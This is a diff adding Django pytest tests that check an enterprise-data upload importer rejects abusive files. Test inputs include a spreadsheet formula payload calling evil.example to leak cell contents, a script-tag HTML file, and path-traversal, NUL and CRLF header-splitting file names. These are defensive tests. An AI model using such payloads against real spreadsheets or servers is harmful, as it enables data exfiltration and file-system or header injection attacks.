@@ -161,3 +161,132 @@ def test_history_events_leave_with_personal_data_masked(client, superuser, firm_
     text = sheet_text(client.get(export_url("pghistory", "events")))
     assert "13812345678" not in text and "138****5678" in text
     assert "11010519491231002X" not in text and old_id not in text and "1101**********002X" in text
+
+
+# --------------------------------------------------------------------------------------------------------------
+# Upload abuse: every bad file is a Chinese refusal of the job (or a per-row problem), never a 500 or a stuck job
+# --------------------------------------------------------------------------------------------------------------
+
+ENTERPRISE_HEADER = "统一社会信用代码*,企业名称*,企业类型*,注册地区代码*,状态,地址,联系人,联系电话"
+
+
+@pytest.fixture
+def _media(settings, tmp_path):
+    settings.MEDIA_ROOT = str(tmp_path)
+
+
+def run_job(user, data: bytes, name: str = "企业.csv", mode: str = "all", key: str = "enterprises"):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    from transfer.jobs import start_import
+    from transfer.models import JobStatus
+    from transfer.tasks import run_import
+
+    job = start_import(user=user, key=key, uploaded_file=SimpleUploadedFile(name, data), mode=mode)
+    assert run_import(job.pk) in (JobStatus.DONE, JobStatus.FAILED)
+    job.refresh_from_db()
+    assert job.is_finished
+    return job
+
+
+def enterprise_csv(*cells: str, header: str = ENTERPRISE_HEADER) -> bytes:
+    from tests.factories import make_uscc
+
+    lines = [header]
+    for n, cell in enumerate(cells):
+        lines.append(f"{make_uscc(7000 + n)},{cell},设计,450103,存续,南宁市,张三,0771-2368335")
+    return ("\n".join(lines) + "\n").encode("utf-8")
+
+
+def _chinese(text: str) -> bool:
+    return any("\u4e00" <= ch <= "\u9fff" for ch in text)
+
+
+def _enterprises() -> int:
+    from accounts.models import Enterprise
+
+    return Enterprise.objects.count()
+
+
+@pytest.mark.parametrize("mode", ["check", "all", "valid_rows"])
+def test_a_nul_byte_in_a_cell_is_a_chinese_problem_of_that_cell(_media, provincial_staff, mode):
+    """PostgreSQL refuses NUL in text: a cell holding one (past the first 4 KB, so the encoding check passes) is
+    named by row and column, and nothing is written — never an unexpected error."""
+    names = [f"南宁第{n}设计院有限公司" for n in range(80)] + ["坏\x00名字设计院"]
+    before = _enterprises()
+    job = run_job(provincial_staff, enterprise_csv(*names), mode=mode)
+    assert "unexpected" not in job.message and "意外" not in job.message, job.message
+    assert any(p["row"] == 82 and p["column"] == "企业名称" for p in job.problems), job.problems
+    assert "空字符" in job.message
+    if mode != "valid_rows":
+        assert _enterprises() == before
+
+
+def test_control_characters_in_a_cell_do_not_break_the_error_file(_media, provincial_staff):
+    """A cell with a control character Excel cannot hold (\\x01) on a refused row: the error file is still made."""
+    job = run_job(
+        provincial_staff,
+        enterprise_csv("南宁设计院有限公司", "坏\x01名字", "x" * 300),
+        mode="valid_rows",
+    )
+    assert job.status == "done", job.message
+    assert job.error_file
+
+
+def test_html_or_svg_renamed_xlsx_is_refused_in_chinese(_media, provincial_staff):
+    for data in (b"<html><script>alert(1)</script></html>", b'<svg xmlns="http://www.w3.org/2000/svg"/>'):
+        job = run_job(provincial_staff, data, name="企业.xlsx")
+        assert job.status == "failed" and _chinese(job.message), job.message
+
+
+def test_a_utf16_csv_is_refused_with_advice(_media, provincial_staff):
+    job = run_job(provincial_staff, enterprise_csv("南宁设计院有限公司").decode().encode("utf-16"))
+    assert job.status == "failed" and "UTF-16" in job.message
+
+
+def test_a_header_only_file_is_refused(_media, provincial_staff):
+    job = run_job(provincial_staff, (ENTERPRISE_HEADER + "\n").encode())
+    assert job.status == "failed" and _chinese(job.message)
+
+
+def test_ten_thousand_columns_are_refused(_media, provincial_staff):
+    header = ENTERPRISE_HEADER + "," + ",".join(f"c{n}" for n in range(10_000))
+    job = run_job(provincial_staff, enterprise_csv("南宁设计院有限公司", header=header))
+    assert job.status == "failed" and _chinese(job.message)
+
+
+def test_a_ten_megabyte_cell_is_refused_naming_its_row(_media, provincial_staff, settings):
+    settings.IMPORT_MAX_BYTES = 12 * 1024 * 1024
+    job = run_job(provincial_staff, enterprise_csv("设" * (10 * 1024 * 1024 // 3)), mode="valid_rows")
+    assert job.status == "failed" and "第 2 行" in job.message, job.message
+
+
+def test_a_formula_payload_imports_as_text(_media, provincial_staff):
+    """=HYPERLINK(…) in a name cell is refused or kept as text; it never becomes a formula of a later export."""
+    from accounts.models import Enterprise
+
+    payload = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    job = run_job(provincial_staff, enterprise_csv(f'"{payload.replace(chr(34), chr(34) * 2)}"'), mode="valid_rows")
+    assert job.status == "done", job.message
+    saved = Enterprise.objects.filter(name__contains="HYPERLINK").first()
+    if saved is not None:
+        from transfer.organisations import enterprise_importer
+        from transfer.workbooks import export_workbook
+
+        book = load_workbook(BytesIO(export_workbook(enterprise_importer, provincial_staff)))
+        cells = [c for row in book.active.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
+        assert cells and all(c.data_type == "s" for c in cells)
+
+
+@pytest.mark.parametrize("name", ["../../x.csv", "a\x00b.csv", "名" * 300 + ".csv", "..\\..\\x.csv", "x\r\nX: y.csv"])
+def test_hostile_file_names_are_kept_harmless(_media, provincial_staff, name, tmp_path):
+    """The stored file's name is random under imports/; the name kept for the user has no path, no NUL, at most
+    255 characters; and the report's download header cannot be split by it."""
+    from transfer.models import ImportJob
+
+    job = run_job(provincial_staff, enterprise_csv("坏\x00名"), name=name)
+    stored = job.upload.name
+    assert stored.startswith("imports/") and ".." not in stored and "\x00" not in stored
+    assert (tmp_path / stored).resolve().is_relative_to(tmp_path.resolve())
+    saved = ImportJob.objects.get(pk=job.pk).original_name
+    assert "/" not in saved and "\\" not in saved and "\x00" not in saved and len(saved) <= 255
